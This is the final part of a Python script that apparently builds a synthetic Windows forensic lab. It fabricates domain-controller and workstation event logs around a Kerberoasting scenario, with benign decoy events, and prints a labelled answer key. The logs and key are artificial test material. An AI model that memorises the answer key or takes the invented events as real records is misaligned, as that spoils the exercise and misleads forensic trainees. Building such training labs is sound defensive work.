                                proc_name="NtLmSsp ", lm="NTLM V2", key_length=128)
            dc.add(t, ev)
            dc.add(t + 2_000_000 + R.below(30_000_000), SEC.e4634(user, "NORTHWIND", lid, 3))
        else:
            dc.add(t, SEC.e4672("DC-EAST$", SEC.lid()))
        t += 20 * 10_000_000 + R.below(40 * 10_000_000)
    # jsmith's own AES tickets for two of the services roasted later
    dc.add(T(12, 40, 3, 211_000), SEC.e4769("jsmith", "svc_finrpt", WS_IP),
           key="jsmith TGS for svc_finrpt (benign: AES)")
    dc.add(T(12, 58, 40, 36_000), SEC.e4769("jsmith", "svc_sqlfin", WS_IP),
           key="jsmith TGS for svc_sqlfin (benign: AES)")
    # a mistyped password on the HR workstation
    dc.add(T(12, 51, 17, 640_000), SEC.e4771("k.osei", HR03_IP),
           key="4771 0x18 bad password (benign)")
    # a scanner that only does RC4: its computer account is the service
    dc.add(T(13, 5, 48, 300_000), SEC.e4769("a.dubois", "SCAN-FL2$", WS17_IP, etype="0x17"),
           key="RC4 TGS for SCAN-FL2$ (benign: service ends with $)")

    # ---------------------------------------------------------------- write
    vm = os.path.join(coll, *DOCKER_LOG.split("/"), "vm")
    init.write(os.path.join(vm, "init.log"), keys)
    old.write(os.path.join(vm, "dockerd.log"), keys, name="dockerd.log (stale)")
    hostlog.write(os.path.join(coll, *DOCKER_LOG.split("/"), "host", "com.docker.backend.exe.log"),
                  keys, name="com.docker.backend.exe.log")
    for log in (ws_sec, ws_sys, dc):
        log.write(srcdir, keys)
    logs = "C/Windows/System32/winevt/Logs/"
    with open(os.path.join(srcdir, "EVTX"), "w", encoding="utf-8", newline="\n") as f:
        f.write("# evtxgen input -> where build.sh writes the .evtx file in the collection\n")
        f.write("WS-FIN-22-Security.jsonl WS-FIN-22/%sSecurity.evtx\n" % logs)
        f.write("WS-FIN-22-Sysmon.jsonl WS-FIN-22/%sMicrosoft-Windows-Sysmon%%4Operational.evtx\n"
                % logs)
        f.write("DC-EAST-Security.jsonl DC-EAST/%sSecurity.evtx\n" % logs)
    return keys


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", default=os.path.dirname(os.path.abspath(__file__)),
                    help="where src/ and collection/ go (default: beside this script)")
    a = ap.parse_args()
    for f, where, t, what in build(a.out):
        print("%-28s %-12s %s  %s" % (f, where, t, what))
    return 0


if __name__ == "__main__":
    sys.exit(main())
